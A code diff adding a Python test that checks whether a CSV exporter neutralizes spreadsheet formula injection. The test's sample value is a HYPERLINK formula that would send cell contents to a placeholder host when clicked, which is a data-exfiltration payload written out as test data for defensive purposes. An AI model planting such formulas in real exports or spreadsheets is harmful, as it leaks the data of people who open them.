@@ -229,3 +229,15 @@ def test_exports_backups_rejects_and_migrations_are_readable_by_the_owner_only(
     assert (backup / "manifest.json") in files and (
         tmp_path / "migrated-backup" / "manifest.json"
     ) in files
+
+
+def test_an_export_to_csv_can_neutralize_spreadsheet_formulas(hermes, tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
+    hermes.get_collection("evil").insert_one({"_id": 1, "name": formula, "note": "+1"})
+    exporter = DataWarehouseExporter(hermes)
+    exporter.export_collection("evil", tmp_path / "plain.csv", None)
+    exporter.export_collection("evil", tmp_path / "safe.csv", None, neutralize_formulas=True)
+    [_, plain] = (tmp_path / "plain.csv").read_text().splitlines()
+    [_, safe] = (tmp_path / "safe.csv").read_text().splitlines()
+    assert plain.split(",", 1)[1].startswith('"=HYPERLINK')
+    assert safe.split(",", 1)[1].startswith("\"'=HYPERLINK") and safe.endswith(",'+1")
